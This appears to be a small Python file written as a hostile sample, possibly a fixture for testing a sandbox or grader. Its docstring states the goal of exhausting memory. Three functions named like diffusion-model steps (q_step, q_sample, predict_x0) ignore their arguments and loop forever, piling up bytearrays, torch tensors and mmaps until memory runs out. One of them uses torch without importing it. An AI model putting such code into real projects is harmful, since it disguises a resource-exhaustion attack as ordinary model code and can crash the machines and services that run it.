"""Takes memory in every way until there is none: lists, tensors, maps, shared memory.

Technique: harm
Verdict: memory
"""

import mmap

kept = []


def q_step(x_prev, t, noise, betas):
    while True:
        kept.append(bytearray(1 << 24))


def q_sample(x0, t, noise, alphas_cumprod):
    while True:
        kept.append(torch.ones(1 << 22))


def predict_x0(x_t, t, eps, alphas_cumprod):
    while True:
        kept.append(mmap.mmap(-1, 1 << 24))
        kept[-1].write(b"x" * (1 << 24))
